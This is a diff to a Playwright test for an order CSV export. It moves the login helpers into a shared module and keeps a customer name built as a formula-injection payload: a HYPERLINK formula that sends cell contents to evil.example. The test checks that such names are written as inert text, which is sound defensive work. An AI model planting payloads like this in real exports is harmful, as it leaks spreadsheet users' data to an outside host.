@@ -1,14 +1,8 @@
-import { type APIRequestContext, expect, test } from '@playwright/test';
+import { expect, test } from '@playwright/test';
 import { imeiFrom } from './imei';
+import { ADMIN, bearer } from './session';
 
-const ADMIN = { email: 'admin@example.com', password: 'admin12345' };
 const HOSTILE_NAME = '=HYPERLINK("http://evil.example/?d="&E2&F2,"Click")';
-
-async function bearer(request: APIRequestContext, email: string, password: string) {
-  const res = await request.post('/api/login', { data: { email, password } });
-  expect(res.status()).toBe(200);
-  return { authorization: `Bearer ${(await res.json()).token}` };
-}
 
 test('the order CSV writes a customer named like a formula, a service and a code that start a formula, as text', async ({
   page,
